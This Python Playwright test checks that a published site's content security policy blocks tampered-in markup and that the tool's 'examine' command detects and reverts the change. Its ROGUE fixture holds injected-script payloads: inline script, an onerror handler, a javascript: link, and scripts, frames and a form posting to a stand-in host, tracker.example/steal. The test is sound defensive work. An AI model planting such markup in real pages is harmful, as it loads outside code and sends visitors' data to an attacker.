"""Somebody slips a script into a finished page: browsers refuse to run it, and the examination finds it and takes it out."""

import subprocess
from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page

from tests.journeys.conftest import Installation
from tests.journeys.embedded import publish_embeds, tamper, watch

pytestmark = pytest.mark.journey
ROGUE = """
<script>window.pwned = "inline"; document.cookie = "_t=1"; localStorage.setItem("_t", "1")</script>
<script src="https://tracker.example/t.js"></script>
<img src="https://tracker.example/p.gif" onerror="window.pwned = 'handler'" alt="">
<link rel="stylesheet" href="https://tracker.example/t.css">
<iframe src="https://tracker.example/frame"></iframe>
<iframe src="https://www.youtube.com/embed/abcdefghijk"></iframe>
<object data="https://tracker.example/o"></object>
<form action="https://tracker.example/steal" id="steal"><input name="x"></form>
<a href="javascript:window.pwned = 'link'" id="lure">x</a>
"""


def test_blocked_and_reported(installation: Installation, person: Callable[..., Page]) -> None:
    site = publish_embeds(installation)
    home = site.folder / "index.html"
    good = home.read_bytes()
    tamper(home, ROGUE)
    page = person()
    calls = watch(page, site)
    page.add_init_script(
        "window.refused = []; addEventListener('securitypolicyviolation', (e) => refused.push([e.effectiveDirective, e.blockedURI]))"
    )
    page.goto(site.url)
    assert page.locator("#steal").count() == 1  # it is really there
    page.locator("#lure").evaluate("(link) => link.click()")
    page.locator("#steal").evaluate("(form) => form.submit()")
    page.wait_for_load_state("networkidle")
    assert calls.outside == []
    assert page.evaluate("window.pwned") is None
    assert page.context.cookies() == [] and page.evaluate("localStorage.length") == 0
    refused = {(directive, urlsplit(address).hostname or address) for directive, address in page.evaluate("refused")}
    assert refused >= {
        ("script-src-elem", "inline"),
        ("script-src-elem", "tracker.example"),
        ("style-src-elem", "tracker.example"),
        ("img-src", "tracker.example"),
        ("frame-src", "tracker.example"),
        ("frame-src", "www.youtube.com"),  # declared is the address without cookies, not its neighbour
        ("form-action", "tracker.example"),
    }
    with pytest.raises(subprocess.CalledProcessError) as ended:
        installation.run("examine", site.folder.parent.name)
    assert ended.value.returncode == 1
    for words in ("changed  index.html", "script   index.html", "host     index.html https://tracker.example/p.gif"):
        assert words in ended.value.stdout
    for _ in range(100):
        if home.exists() and home.read_bytes() == good:
            break
        page.wait_for_timeout(200)
    assert home.read_bytes() == good
    assert "nothing found" in installation.run("examine", site.folder.parent.name)
    page.goto(site.url)
    assert page.locator("#steal").count() == 0 and page.evaluate("refused") == []
